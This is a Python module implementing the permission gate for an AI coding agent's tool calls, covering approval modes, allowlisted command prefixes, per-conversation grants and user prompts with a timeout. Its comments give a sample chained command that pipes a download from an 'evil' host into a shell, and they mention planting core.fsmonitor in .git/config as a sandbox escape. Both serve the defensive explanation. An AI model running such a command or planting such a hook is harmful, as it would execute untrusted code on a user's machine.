"""The user's say over tool calls: the approval policy, grants, and asking the editor.

One :class:`PermissionGate` per ask implements ``tooling.permissions.Permissions``:
the runtime hands it every destructive call before it runs. The gate decides from

- the ``approval`` setting: ``on-request`` asks only for calls that require it (a bash
  escalation, or any bash call where the system has no sandbox), ``always`` asks for
  every bash/write_file/edit_file call too, ``never`` asks nothing and refuses what
  would require asking;
- the user's own ``allowedCommands`` (bash command prefixes that run without asking,
  in the sandbox: an escalation is always asked about);
- the conversation's grants: an ``allow_always`` or ``reject_always`` answer is bound to
  the exact call (tool name + a digest of its arguments), so a changed command is asked
  about again, or to the wider scope the tool named (network to one host for any
  command, any call of one MCP tool); every request says which in ``always_scope``, one
  sentence the clients show as it is (:func:`always_scope`);
- otherwise the user, through an :class:`Asker` (``agent/requestPermission`` over LSP),
  within ``permissionTimeout`` seconds (unanswered counts as declined).

Cancelling the ask cancels the pending request (the asker withdraws it from the client).
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import time
import uuid
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Protocol

from tooling.display import escape_consent
from tooling.permissions import PermissionDecision, PermissionRequest

from .activity import summarize_arguments
from .events import AgentEvent, PermissionAnswered, PermissionRequested

APPROVAL_MODES: tuple[str, ...] = ("on-request", "always", "never")
DEFAULT_PERMISSION_TIMEOUT = 300.0
MAX_PERMISSION_TIMEOUT = 3600.0
# ACP's option kinds; each option's id is its kind. What "always" covers is not in the
# labels but in the request's ``always_scope`` (one sentence, built where the grant is).
ALLOW_ONCE, ALLOW_ALWAYS = "allow_once", "allow_always"
REJECT_ONCE, REJECT_ALWAYS = "reject_once", "reject_always"
OPTIONS: tuple[tuple[str, str], ...] = (
    (ALLOW_ONCE, "Allow once"),
    (ALLOW_ALWAYS, "Allow always"),
    (REJECT_ONCE, "Reject"),
    (REJECT_ALWAYS, "Reject always"),
)
# A command with any of these is never matched by an allowedCommands prefix: they
# chain, substitute or redirect, so "npm test; curl evil | sh" is not "npm test".
SHELL_SYNTAX = frozenset(";&|<>$`()\\\n\r{}")


def call_digest(tool_name: str, arguments: Mapping[str, Any]) -> str:
    """What a grant is bound to: the tool and its exact (canonical) arguments."""
    canonical = json.dumps([tool_name, arguments], sort_keys=True, separators=(",", ":"))
    return hashlib.sha256(canonical.encode()).hexdigest()


def grant_digest(request: PermissionRequest) -> str:
    """The digest an always-answer to ``request`` is kept under: the exact call, or the
    wider scope the tool asked about (``CallPermission.grant_scope``)."""
    scope = request.permission.grant_scope if request.permission else None
    return call_digest(request.tool_name, scope if scope is not None else request.arguments)


def allowed_by_prefix(command: str, prefixes: Sequence[str]) -> bool:
    """Whether ``command`` is one of the user's allowed commands (word-wise prefix)."""
    words = command.split()
    if not words or any(ch in SHELL_SYNTAX for ch in command):
        return False
    for prefix in prefixes:
        wanted = prefix.split()
        if wanted and words[: len(wanted)] == wanted:
            return True
    return False


@dataclass(frozen=True)
class Grant:
    grant_id: str
    digest: str
    tool_name: str
    arguments: str  # canonical JSON, for listing
    title: str
    decision: str  # "allow" or "reject"
    created: float


@dataclass
class GrantStore:
    """One conversation's always-answers (in memory; dropped with the conversation)."""

    _grants: dict[str, Grant] = field(default_factory=dict)

    def find(self, digest: str) -> Grant | None:
        return next((g for g in self._grants.values() if g.digest == digest), None)

    def add(self, request: PermissionRequest, title: str, decision: str) -> Grant:
        scope = request.permission.grant_scope if request.permission else None
        shown = scope if scope is not None else request.arguments
        arguments = json.dumps(shown, sort_keys=True, ensure_ascii=False)
        if request.permission is not None and request.permission.grant_title:
            title = escape_consent(request.permission.grant_title)
        grant = Grant(
            grant_id=uuid.uuid4().hex[:12],
            digest=grant_digest(request),
            tool_name=request.tool_name,
            arguments=arguments,
            title=title,
            decision=decision,
            created=time.time(),
        )
        self._grants[grant.grant_id] = grant
        return grant

    def list(self) -> list[Grant]:
        return sorted(self._grants.values(), key=lambda g: g.created)

    def revoke(self, grant_id: str) -> bool:
        return self._grants.pop(grant_id, None) is not None


@dataclass(frozen=True)
class ApprovalPolicy:
    approval: str = "on-request"
    allowed_commands: tuple[str, ...] = ()
    timeout: float = DEFAULT_PERMISSION_TIMEOUT


@dataclass(frozen=True)
class PermissionPrompt:
    """What the user is shown (the ``agent/requestPermission`` params, minus the wire):
    ``title`` and ``reason`` escaped (``tooling.display``), ``arguments`` the call's data,
    ``options`` the answers offered as (kind, label), ``always_scope`` what an "always"
    answer would cover (escaped; empty when no "always" answer is offered)."""

    session_id: str
    call_id: str
    tool_name: str
    arguments: Mapping[str, Any]
    title: str
    reason: str
    options: tuple[tuple[str, str], ...] = OPTIONS
    always_scope: str = ""


def always_scope(request: PermissionRequest) -> str:
    """What an "always" answer to ``request`` covers, in one sentence, escaped: the wider
    scope the tool named (``CallPermission.grant_title``: network to a host for any command,
    any call of an MCP tool), else the exact call (``grant_digest`` decides the same way)."""
    permission = request.permission
    if permission is not None and permission.grant_scope is not None and permission.grant_title:
        return escape_consent(f"{permission.grant_title}, for this conversation")
    if isinstance(request.arguments.get("command"), str):
        return "This exact command, for this conversation (a changed command asks again)"
    return "This exact call, for this conversation (a call with other arguments asks again)"


class Asker(Protocol):
    def can_ask(self) -> bool:
        """Whether the client declared it can answer permission requests."""
        ...

    async def ask(self, prompt: PermissionPrompt) -> str | None:
        """The kind of the option the user chose, or None (dismissed, or an error)."""
        ...


class PermissionGate:
    """The permission decisions of one ask."""

    def __init__(
        self,
        policy: ApprovalPolicy,
        grants: GrantStore,
        asker: Asker | None,
        *,
        session_id: str,
        emit: Callable[[AgentEvent], None],
    ) -> None:
        self._policy = policy
        self._grants = grants
        self._asker = asker
        self._session_id = session_id
        self._emit = emit

    async def authorize(self, request: PermissionRequest) -> PermissionDecision:
        permission = request.permission
        required = permission is not None and permission.required
        if not required and self._policy.approval != "always":
            return PermissionDecision(True)
        # What the user reads of the call (and the model of a refusal): the tool's words
        # around the model's, so escaped here, for every tool (tooling.display).
        title = escape_consent(permission.title if permission else _title(request))
        if required and self._policy.approval == "never":
            return PermissionDecision(
                False,
                f"this call needs the user's permission ({title}), and the user's settings "
                'refuse every such request (approval: "never"). Do it without that, or tell '
                "the user what is needed.",
            )
        # Never for an escalation: a sandboxed command can plant what a listed program
        # runs (`.git/config`'s core.fsmonitor runs on `git status`), and outside the
        # sandbox that would run unconfined.
        command = request.arguments.get("command")
        escalation = permission is not None and permission.escalation
        if (
            isinstance(command, str)
            and not escalation
            and allowed_by_prefix(command, self._policy.allowed_commands)
        ):
            return PermissionDecision(True)
        grant = self._grants.find(grant_digest(request))
        if grant is not None:
            if grant.decision == "allow":
                return PermissionDecision(True)
            return PermissionDecision(
                False,
                "the user declined this for the rest of the conversation "
                f'("reject always": {grant.title}). Do not repeat it; continue without it, '
                "or ask the user.",
            )
        if self._asker is None or not self._asker.can_ask():
            return PermissionDecision(
                False,
                f"this call needs the user's permission ({title}), but the editor cannot ask "
                "the user (its client does not support agent/requestPermission). Do it "
                "without that, or tell the user what is needed.",
            )
        reason = escape_consent(permission.reason) if permission else ""
        return await self._ask(self._asker, request, title, reason)

    async def _ask(
        self, asker: Asker, request: PermissionRequest, title: str, reason: str
    ) -> PermissionDecision:
        prompt = PermissionPrompt(
            self._session_id,
            request.call_id,
            request.tool_name,
            request.arguments,
            title,
            reason,
            OPTIONS,
            always_scope(request),
        )
        self._emit(
            PermissionRequested(
                request.call_id,
                request.tool_name,
                request.raw_arguments,
                title,
                request.summary_key,
                request.display_name,
            )
        )
        choice: str | None
        asked = time.perf_counter()
        try:
            async with asyncio.timeout(self._policy.timeout):
                choice = await asker.ask(prompt)
        except TimeoutError:
            choice = "timeout"
        waited = time.perf_counter() - asked
        allowed = choice in (ALLOW_ONCE, ALLOW_ALWAYS)
        self._emit(
            PermissionAnswered(
                request.call_id,
                request.tool_name,
                request.raw_arguments,
                allowed,
                request.summary_key,
                request.display_name,
            )
        )
        if choice in (ALLOW_ALWAYS, REJECT_ALWAYS):
            self._grants.add(request, title, "allow" if allowed else "reject")
        if allowed:
            return PermissionDecision(True, waited_s=waited)
        if choice == "timeout":
            detail = f" (no answer within {self._policy.timeout:g} s counts as declined)"
        elif choice is None:
            detail = " (the request was dismissed)"
        elif choice == REJECT_ALWAYS:
            scope = prompt.always_scope
            detail = f", and will decline the same again ({scope[:1].lower()}{scope[1:]})"
        else:
            detail = ""
        return PermissionDecision(
            False,
            f"the user declined this call ({title}){detail}. Do not retry it the same way; "
            "continue without it, or ask the user what to do.",
            waited_s=waited,
        )


def _title(request: PermissionRequest) -> str:
    summary = summarize_arguments(request.tool_name, request.raw_arguments, request.summary_key)
    return f"{request.tool_title}: {summary}"
